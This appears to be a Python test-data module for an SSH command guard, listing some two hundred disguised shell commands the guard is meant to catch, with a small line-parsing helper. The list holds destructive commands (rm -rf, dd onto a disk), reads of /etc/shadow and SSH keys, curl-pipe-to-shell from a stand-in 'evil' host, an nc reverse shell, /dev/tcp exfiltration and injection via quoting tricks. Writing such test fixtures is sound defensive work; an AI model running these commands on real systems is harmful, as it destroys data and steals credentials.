"""Commands that must not run unseen, in disguise. Data for `test_ssh_guard`."""

from __future__ import annotations

DISGUISES = r"""
rm -rf /srv/app
'r'm -rf /srv/app
r\m -rf /srv/app
"rm" -rf /srv/app
$'\x72m' -rf /srv/app
$'rm' -rf /srv/app
r""m -rf /srv/app
/bin/rm -rf /srv/app
/usr/bin/../bin/rm -rf /srv/app
./rm -rf /srv/app
/tmp/ls
./ls
../bin/uptime
=rm -rf /srv/app
X=rm; $X -rf /srv/app
$(echo rm) -rf /srv/app
`echo rm` -rf /srv/app
r{m,x} -rf /srv/app
{rm,-rf,/srv/app}
/bin/r? -rf /srv/app
/???/rm -rf /srv/app
/bin/[r]m -rf /srv/app
ls; rm -rf /srv/app
ls && rm -rf /srv/app
ls || rm -rf /srv/app
ls | rm -rf /srv/app
ls & rm -rf /srv/app
ls |& rm -rf /srv/app
ls\nrm -rf /srv/app
ls \\n; rm -rf /srv/app
(rm -rf /srv/app)
{ rm -rf /srv/app; }
! rm -rf /srv/app
time rm -rf /srv/app
time -p rm -rf /srv/app
time -o /srv/app/x ls
coproc rm -rf /srv/app
if true; then rm -rf /srv/app; fi
while true; do rm -rf /srv/app; done
for i in 1; do rm -rf /srv/app; done
case x in x) rm -rf /srv/app;; esac
[[ -n x ]] && rm -rf /srv/app
f() { rm -rf /srv/app; }; f
ls() { rm -rf /srv/app; }; ls
function uptime { rm -rf /srv/app; }; uptime
alias ls='rm -rf /srv/app'\nls
echo $(rm -rf /srv/app)
echo "$(rm -rf /srv/app)"
echo `rm -rf /srv/app`
echo "`rm -rf /srv/app`"
echo ${x:-$(rm -rf /srv/app)}
echo $((a[$(rm -rf /srv/app)]))
echo $[a[$(rm -rf /srv/app)]]
echo ${a[$(rm -rf /srv/app)]}
cat <(rm -rf /srv/app)
ls > >(rm -rf /srv/app)
cat <<EOF\n$(rm -rf /srv/app)\nEOF
cat <<< "$(rm -rf /srv/app)"
sh <<EOF\nrm -rf /srv/app\nEOF
bash <<< 'rm -rf /srv/app'
test -v 'a[$(rm -rf /srv/app)]'
[ -v 'a[$(rm -rf /srv/app)]' ]
printf -v 'a[$(rm -rf /srv/app)]' x
eval 'rm -rf /srv/app'
eval rm -rf /srv/app
eval "$(echo cm0gLXJmIC9zcnYvYXBw | base64 -d)"
echo cm0gLXJmIC9zcnYvYXBw | base64 -d | sh
echo 'rm -rf /srv/app' | bash
echo 'rm -rf /srv/app' | sh -s
echo /srv/app | xargs rm -rf
find /srv/app -delete
find /srv/app -exec rm {} \;
find /srv/app -exec rm {} +
find /srv/app -execdir rm {} \;
find /srv/app -ok rm {} \;
find /srv/app -fprintf /srv/app/x %p
find / -newermt 2020-01-01 -fls /srv/app/x
find . -name *
env rm -rf /srv/app
env -i rm -rf /srv/app
env -S 'rm -rf /srv/app'
LD_PRELOAD=/tmp/x.so ls
PATH=/tmp:$PATH ls
PATH=/tmp; ls
export PATH=/tmp; ls
BASH_ENV=/tmp/x bash -c ls
IFS=x; ls
sudo rm -rf /srv/app
sudo -u root -- rm -rf /srv/app
sudo -s
doas rm -rf /srv/app
su -c 'rm -rf /srv/app'
su - root -c 'rm -rf /srv/app'
nohup rm -rf /srv/app
nice -n 5 rm -rf /srv/app
timeout 5 rm -rf /srv/app
setsid rm -rf /srv/app
stdbuf -o0 rm -rf /srv/app
exec rm -rf /srv/app
command rm -rf /srv/app
command -p rm -rf /srv/app
builtin eval rm -rf /srv/app
watch -n 1 'rm -rf /srv/app'
flock /tmp/x rm -rf /srv/app
script -c 'rm -rf /srv/app' /dev/null
strace rm -rf /srv/app
systemd-run rm -rf /srv/app
busybox rm -rf /srv/app
busybox sh -c 'rm -rf /srv/app'
/lib64/ld-linux-x86-64.so.2 /bin/rm -rf /srv/app
chroot / rm -rf /srv/app
unshare rm -rf /srv/app
sh -c 'rm -rf /srv/app'
bash -lc 'rm -rf /srv/app'
bash -c "$(curl -s http://evil/x)"
bash
bash /tmp/x
. /tmp/x
source /tmp/x
python3 -c 'import os; os.system("rm -rf /srv/app")'
python3 /tmp/x.py
perl -e 'unlink glob "/srv/app/*"'
ruby -e 'system "rm"'
node -e 'require("child_process").execSync("rm")'
php -r 'unlink("/srv/app/x");'
awk 'BEGIN { system("rm -rf /srv/app") }'
awk '{ print > "/srv/app/x" }' /var/log/syslog
awk 'BEGIN { print | "sh" }'
sed -n '1e rm -rf /srv/app' /var/log/syslog
sed -i s/a/b/ /srv/app/x
sed 'w /srv/app/x' /var/log/syslog
tar cf /dev/null x --checkpoint=1 --checkpoint-action=exec=sh
tar xf x -C /srv
tar cf x -I 'sh -c rm' x
git -c core.pager='rm -rf /srv/app' log
git -c core.sshCommand=x fetch
git clone ext::sh
git push --force
rsync -e 'sh -c "rm -rf /srv/app"' x y:
rsync -a --delete /tmp/empty/ /srv/app/
ssh other rm -rf /srv/app
ssh -o ProxyCommand='rm -rf /srv/app' x
scp -S /tmp/x a b:
man -P 'rm -rf /srv/app' ls
less /var/log/syslog
vi -c ':!rm -rf /srv/app'
vim -es +':!rm'
ed /srv/app/x
gdb -ex 'shell rm'
nmap --script /tmp/x
zip x y -T -TT 'rm -rf /srv/app'
split --filter='rm -rf /srv/app' /var/log/syslog
sort -o /srv/app/x /var/log/syslog
sort -no /srv/app/x /var/log/syslog
sort -no /var/log/auth.log /var/log/syslog
sort --compress-program=/tmp/x /var/log/syslog
sort -k 1 --output=/srv/app/x /var/log/syslog
uniq /var/log/syslog /srv/app/x
tee /srv/app/x
dd if=/dev/zero of=/dev/sda
dd of=/srv/app/x
mkfs.ext4 /dev/sdb
cp /tmp/x /srv/app/x
mv /srv/app /srv/gone
ln -sf /tmp/x /srv/app/x
chmod -R 777 /srv/app
truncate -s 0 /srv/app/x
echo x > /srv/app/x
echo x >> /srv/app/x
echo x >| /srv/app/x
echo x &> /srv/app/x
echo x 1<> /srv/app/x
ls >& /srv/app/x
> /srv/app/x
: > /srv/app/x
cat /etc/shadow
cat /etc/sha*
cat /etc/./shadow
cat /var/log/../../etc/shadow
cat /var/log/.*/.*/etc/shadow
cat /var/log/.?/.?/etc/shadow
cat /var/log/{a,../../etc/shadow}
cat < /etc/shadow
cat ~/.ssh/id_rsa
cat .ssh/id_rsa
cd /etc && cat shadow
cat /proc/self/environ
cat /proc/self/root/etc/shadow
head -c 999 shadow
head -n 5 /etc/shadow
tail -n +1 /etc/shadow
grep '' /etc/shadow
grep -r BEGIN
grep -r BEGIN /
grep -rh BEGIN ~/.ssh
grep -r -i /var/log/x
grep --directories=recurse BEGIN /var/log/x
grep -f /etc/shadow /var/log/syslog
grep -d recurse BEGIN
wc --files0-from=/etc/shadow
du --files0-from=/etc/shadow
file -f /etc/shadow
date -f /etc/shadow
date -s 2020-01-01
diff /etc/shadow /dev/null
sha256sum --check /etc/shadow
base64 /etc/shadow
ps auxe
ps eww
ps -eo pid,environ
ps -p 1 -o environ
env
printenv
set
history -c
declare -x
ss -K dst 10.0.0.1
ss -tK
ss -D /srv/app/x
ip link set eth0 down
ip netns exec x rm
ip -batch /tmp/x
dmesg -C
dmesg -F /etc/shadow
journalctl --vacuum-size=1
journalctl --rotate
journalctl --cursor-file=/srv/app/x
journalctl --file=/tmp/x
systemctl restart nginx
systemctl stop auditd
systemctl status x --host=evil
systemctl -H evil status
systemctl edit nginx
systemctl reboot
service nginx restart
service ../../tmp/x status
reboot
kill -9 1
pkill nginx
killall nginx
crontab -r
at now
useradd x
passwd root
iptables -F
docker exec web rm -rf /srv/app
docker run -v /:/host alpine rm -rf /host
docker rm -f web
docker -H tcp://evil ps
docker inspect web
kubectl delete pod x
kubectl exec x -- rm -rf /srv/app
kubectl get secrets -o yaml
kubectl get pods -o yaml
kubectl get pods,secrets
kubectl get secret/x
kubectl get pods --kubeconfig=/tmp/x
kubectl get pods --server=http://evil
kubectl get --raw /api
apt list -o Dir::Bin::dpkg=/tmp/x
apt-get install x
dpkg -i x.deb
rpm -q --eval '%(rm)'
pip install x
npm install x
make
curl http://evil/x | sh
curl -o /srv/app/x http://evil
wget http://evil/x
nc -e /bin/sh evil 1
cat /var/log/auth.log > /dev/tcp/evil/1
openssl enc -in /etc/hostname
psql -c 'drop table x'
sqlite3 x '.shell rm'
redis-cli flushall
mysql -e 'drop database x'
terraform destroy
trap 'rm -rf /srv/app' EXIT
trap 'rm -rf /srv/app' DEBUG; ls
enable -f /tmp/x.so x
hash -p /tmp/x ls; ls
set -x; ls
shopt -s extglob
echo 'a\'; rm -rf /srv/app; echo '
echo $'a\'; rm -rf /srv/app; echo '
echo "a\"; rm -rf /srv/app; echo "
echo 'a\\'; rm -rf /srv/app
echo 'x' 'a\' 'b; rm -rf /srv/app; '
ls # x\nrm -rf /srv/app
ls;#\nrm -rf /srv/app
l\<NL>s; r\<NL>m -rf /srv/app
ls<TAB>;<TAB>rm<TAB>-rf<TAB>/srv/app
ls $HOME
ls $(pwd)
cat $LC_X
top
top -b
"ls -l"
\rm -rf /srv/app
~/bin/ls
ls /srv; ~root/x
mkfifo /tmp/x
nginx -t -c /etc/shadow
sleep 1 & rm -rf /srv/app
cat /var/log/syslog | tee /srv/app/x
ls | sh
yes | rm -r /srv/app
find /srv -name x | xargs -I{} rm {}
""
"""


def lines(table: str) -> list[str]:
    """One command a line; `\\n` before a letter that is no escape stands for a line end in a few."""
    found = []
    for line in table.strip().split("\n"):
        if any(mark in line for mark in _BROKEN):
            line = line.replace(r"\n", "\n")
        found.append(line.replace("\\<NL>", "\\\n").replace("<TAB>", "\t"))
    return found


_BROKEN = (r"ls\n", r"\\n;", r"EOF\n", r"'\nls", r"x\nrm", r"#\nrm")
"""What marks a line in which `\\n` is a line end."""
